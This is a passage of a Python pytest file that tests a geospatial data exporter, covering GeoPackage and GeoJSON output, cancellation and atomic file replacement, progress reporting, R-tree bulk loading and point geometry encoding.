        assert conn.execute("SELECT count(*) FROM events").fetchone()[0] == 6  # still usable
    finally:
        conn.close()


def test_gpkg_from_a_connection_in_a_transaction(tiny, tmp_path):
    conn = sqlite3.connect(tiny)
    conn.execute("BEGIN")
    conn.execute("SELECT count(*) FROM events").fetchone()
    try:
        res = export(conn, "gpkg", tmp_path / "c.gpkg", layer="events,grids")
        assert res.counts == {"grids": 3, "events": 5}
        assert conn.in_transaction  # the caller's transaction is left alone
        assert [r[1] for r in conn.execute("PRAGMA database_list")] == ["main"]  # nothing left attached
        res = export(conn, "geojson", tmp_path / "c.geojson")
        assert res.counts == {"events": 5}
    finally:
        conn.close()


# -- atomicity, progress, cancel ------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["gpkg", "geojson", "csv", "open311"])
def test_cancel_leaves_previous_file(tiny, tmp_path, fmt):
    out = tmp_path / f"x.{fmt}"
    out.write_bytes(b"previous")
    stop = threading.Event()
    stop.set()
    with pytest.raises(ExportCancelled):
        export(tiny, fmt, out, cancel=stop)
    calls = []

    def cancel_after_first():
        calls.append(1)
        return len(calls) > 1

    with pytest.raises(ExportCancelled):
        export(tiny, fmt, out, cancel=cancel_after_first, layer=None)
    assert len(calls) == 2
    assert out.read_bytes() == b"previous"
    assert not list(tmp_path.glob(".*.part*"))


def test_cancel_midway_through_demo_gpkg(demo_copy, tmp_path):
    out = tmp_path / "d.gpkg"
    seen: list[str] = []
    # the line and polygon layers report when done (always); the next check is inside the SQL
    # function that builds the devices layer's points, 2,000 rows in: the INSERT … SELECT stops there
    with pytest.raises(ExportCancelled):
        export(
            demo_copy,
            "gpkg",
            out,
            progress=lambda f, t: seen.append(t),
            cancel=lambda: any("roads" in t for t in seen),
        )
    assert not out.exists() and not list(tmp_path.glob(".*.part*"))
    assert any(t.startswith("roads") for t in seen) and not any(
        t.startswith(("devices", "events")) for t in seen
    )


def test_progress_reaches_one(demo_copy, tmp_path):
    seen = []
    export(demo_copy, "geojson", tmp_path / "p.geojson", progress=lambda f, t: seen.append(f))
    assert seen and seen[-1] == 1.0 and all(0 <= f <= 1 for f in seen)
    assert seen == sorted(seen)


def test_replaces_existing_file_atomically(tiny, tmp_path):
    out = tmp_path / "x.geojson"
    out.write_text("old", encoding="utf-8")
    export(tiny, "geojson", out)
    assert read_geojson(out)["type"] == "FeatureCollection"
    assert not list(tmp_path.glob(".*.part*"))


# -- R-tree bulk load and geometry encoding -----------------------------------------------------
@pytest.mark.parametrize("n", [1, 50, 51, 52, 2601, 2602, 20000])
def test_rtree_bulk_load_matches_brute_force(n):
    rnd = random.Random(n)
    c = sqlite3.connect(":memory:", isolation_level=None)
    c.execute("ATTACH ':memory:' AS o")
    c.execute("CREATE VIRTUAL TABLE o.r USING rtree(id, minx, maxx, miny, maxy)")
    boxes = []
    for i in range(n):
        x, y = 120.8 + rnd.random() * 0.3, 31.9 + rnd.random() * 0.3
        w = rnd.random() * 0.01 if i % 3 else 0.0
        boxes.append((i * 7 + 3, x, x + w, y, y + w))
    gpkg.bulk_load_rtree(c, "o", "r", boxes)
    assert c.execute("SELECT rtreecheck('o', 'r')").fetchone()[0] == "ok"
    assert c.execute("SELECT count(*) FROM o.r").fetchone()[0] == n
    for _ in range(30):
        qx, qy, d = 120.8 + rnd.random() * 0.3, 31.9 + rnd.random() * 0.3, rnd.random() * 0.05
        got = {r[0] for r in c.execute(
            "SELECT id FROM o.r WHERE maxx >= ? AND minx <= ? AND maxy >= ? AND miny <= ?", (qx, qx + d, qy, qy + d))}  # fmt: skip
        want = {b[0] for b in boxes if b[2] >= qx and b[1] <= qx + d and b[4] >= qy and b[3] <= qy + d}
        assert want <= got  # float32 boxes round outwards: never a miss
    c.execute("INSERT INTO o.r VALUES (99999999, 1, 2, 3, 4)")  # SQLite keeps maintaining it
    c.execute("DELETE FROM o.r WHERE id = ?", (boxes[0][0],))
    assert c.execute("SELECT rtreecheck('o', 'r')").fetchone()[0] == "ok"


def test_gp_point_encoding():
    blob = gpkg.gp_point(120.5, 32.25)
    assert len(blob) == 8 + 32 + 21
    srs, env, wkb = gpkg.decode_header(blob)
    assert srs == 4326 and env == (120.5, 120.5, 32.25, 32.25)
    assert shapely.from_wkb(wkb).equals(shapely.Point(120.5, 32.25))
    assert wkb[:5] == b"\x01\x01\x00\x00\x00"  # little-endian WKB point
